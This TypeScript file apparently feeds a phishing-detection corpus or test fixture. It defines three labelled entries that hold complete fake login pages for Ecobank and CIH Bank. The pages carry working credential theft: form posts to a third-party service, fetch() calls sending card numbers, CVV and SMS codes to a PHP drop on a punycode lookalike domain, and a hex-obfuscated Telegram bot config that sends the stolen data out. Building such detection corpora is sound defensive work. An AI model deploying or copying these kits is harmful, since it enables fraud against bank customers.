import { htmlRoute, type Entry } from '../entry.js';
import { doc, logos, hexOf } from '../parts/xe-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * Bank credential kits seen against Maghreb and West African banks: copies of the online-banking logins
 * (Attijarinet, CIH Online, BMCE Direct, Chaabi Net, BIATNET, Ecobank Online, SGBCI, Bank of Africa B-Web)
 * with multi-step flows (login → SMS code → card), exfil to Telegram bots or PHP drops, obfuscation and cloaking.
 */

const ecobankFormService: Entry = {
  id: 'xe-ecobank-online-formspark',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://ecobank-online-ci-verify.com/ecobankonline/signin',
  body: doc({
    title: 'Ecobank Online Banking | Sign in',
    lang: 'en',
    css: `body{margin:0;font-family:Helvetica,Arial;background:#f5f7f8}.bar{background:#005b82;height:6px}.c{max-width:420px;margin:46px auto;background:#fff;padding:28px;border-radius:4px}.tabs{display:flex;gap:16px;font-size:13px;margin-bottom:16px}.tabs b{color:#005b82;border-bottom:2px solid #7ac143}input,select{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #cfd8dc;box-sizing:border-box}button{width:100%;background:#7ac143;color:#fff;border:0;padding:12px;font-size:15px}.f{font-size:11px;color:#78909c;margin-top:16px}`,
    body: `<div class="bar"></div><div class="c">${logos.ecobank(34)}<div class="tabs"><b>Personal</b><span>Business</span><span>Français</span></div>
<form action="https://submit-form.com/k9Lx2PqRw" method="POST"><input type="hidden" name="_redirect" value="https://ecobank-online-ci-verify.com/ecobankonline/pending">
<select name="country"><option>Côte d'Ivoire</option><option>Senegal</option><option>Cameroon</option><option>Ghana</option><option>Nigeria</option></select>
<input name="username" placeholder="Username or Account number" required><input name="password" type="password" placeholder="Password" required>
<input name="transaction_pin" type="password" placeholder="Transaction PIN (4 digits)" maxlength="4" required><input name="phone" placeholder="Registered mobile number" required>
<button>Sign in</button></form><p class="f">Ecobank Transnational Incorporated. Never share your OTP with anyone, including Ecobank staff.</p></div>`,
  }),
  routes: {
    'ecobank-online-ci-verify.com/ecobankonline/pending': htmlRoute(doc({ title: 'Ecobank', lang: 'en', body: '<p style="font-family:Arial;text-align:center;margin-top:80px">Your account is being verified. Do not close this page. An agent will call you to confirm your identity.</p>' })),
  },
};

const cihPunycode: Entry = {
  id: 'xe-cih-punycode-lookalike-update',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://xn--cihbnk-6nf.ma-securite.com/fr/mise-a-jour',
  body: doc({
    title: 'CIH BANK - Mise à jour de sécurité',
    css: `body{font-family:Arial;background:#f7f9fc;margin:0}.t{background:#0a4f9e;height:54px;display:flex;align-items:center;padding:0 20px}.b{max-width:500px;margin:30px auto;background:#fff;border:1px solid #dfe6ef;padding:24px}.st{display:flex;gap:6px;margin-bottom:18px}.st span{flex:1;height:5px;background:#dfe6ef}.st .on{background:#f28c00}input{width:100%;padding:10px;margin:5px 0 12px;box-sizing:border-box}button{background:#f28c00;color:#fff;border:0;padding:12px 24px}#s2{display:none}`,
    body: `<div class="t">${logos.cih(34)}</div><div class="b"><div class="st"><span class="on" id="b1"></span><span id="b2"></span></div>
<div id="s1"><h3>Étape 1/2 : Authentification CIH Online</h3><input id="i1" placeholder="Identifiant"><input id="i2" type="password" placeholder="Mot de passe"><button onclick="nx()">Continuer</button></div>
<div id="s2"><h3>Étape 2/2 : Vérification de la carte</h3><input id="i3" placeholder="Numéro de carte"><input id="i4" placeholder="Date d'expiration MM/AA"><input id="i5" placeholder="CVV"><input id="i6" placeholder="Code 3D Secure reçu par SMS"><button onclick="fin()">Terminer</button></div></div>
<script>var D='https://xn--cihbnk-6nf.ma-securite.com/fr/rec.php';function v(i){return document.getElementById(i).value}
function nx(){fetch(D,{method:'POST',body:new URLSearchParams({a:v('i1'),b:v('i2')})});s1.style.display='none';s2.style.display='block';b2.className='on'}
function fin(){fetch(D,{method:'POST',body:new URLSearchParams({a:v('i1'),c:v('i3'),d:v('i4'),e:v('i5'),f:v('i6')})}).then(function(){location='https://www.cihbank.ma'})}</script>`,
  }),
};

const ecobankCmHex: Entry = (() => {
  const host = 'ecobank-cm-mobile.webflow-site.com';
  const cfg = JSON.stringify({ tk: '7720019384:AAEw5ZxQ1mLpNn0K3bVcR8tYu2HjD6sFgIo', id: '-1002847561930', nx: '/otp' });
  return {
    id: 'xe-ecobank-cameroon-hex-config',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${host}/cm/login`,
    body: doc({
      title: 'Ecobank Mobile Cameroun - Connexion',
      css: `body{background:#005b82;font-family:Helvetica,Arial;margin:0}.p{max-width:380px;margin:50px auto;background:#fff;border-radius:14px;padding:26px}.p input{width:100%;padding:12px;margin:6px 0;border:1px solid #cfd8dc;border-radius:8px;box-sizing:border-box}.p button{width:100%;margin-top:10px;padding:13px;border:0;border-radius:8px;background:#7ac143;color:#fff;font-size:16px}`,
      body: `<div class="p">${logos.ecobank(32)}<h3>Bienvenue / Welcome</h3><p style="font-size:13px;color:#555">Connectez-vous pour recevoir votre prime de fidélité Ecobank de 25 000 FCFA.</p>
<form id="e"><input name="phone" placeholder="Numéro de téléphone (+237)" required><input name="pin" type="password" placeholder="Code PIN Ecobank Mobile" maxlength="6" required><input name="acct" placeholder="Numéro de compte (facultatif)"><button>Se connecter</button></form></div>
<script src="/cm/assets/app.js"></script>`,
    }),
    routes: {
      [`${host}/cm/assets/app.js`]: jsRoute(`(function(){var h='${hexOf(cfg)}',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));var C=JSON.parse(s);
document.getElementById('e').addEventListener('submit',function(ev){ev.preventDefault();var f=new FormData(this),t='ECOBANK CM\\n';f.forEach(function(v,k){t+=k+': '+v+'\\n'});
fetch('https://api.telegram.org/bot'+C.tk+'/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:C.id,text:t})}).then(function(){location.href='/cm'+C.nx})})})();`),
      [`${host}/cm/otp`]: htmlRoute(doc({ title: 'Ecobank Mobile - OTP', body: '<div style="max-width:360px;margin:60px auto;font-family:Arial;text-align:center"><p>Entrez le code OTP envoyé par Ecobank</p><form action="/cm/otp" method="post"><input name="otp" maxlength="6" style="font-size:22px;text-align:center;width:60%"><br><button style="margin-top:12px;padding:10px 26px">Confirmer</button></form></div>' })),
    },
  };
})();

export const entries: Entry[] = [ecobankFormService, cihPunycode, ecobankCmHex];
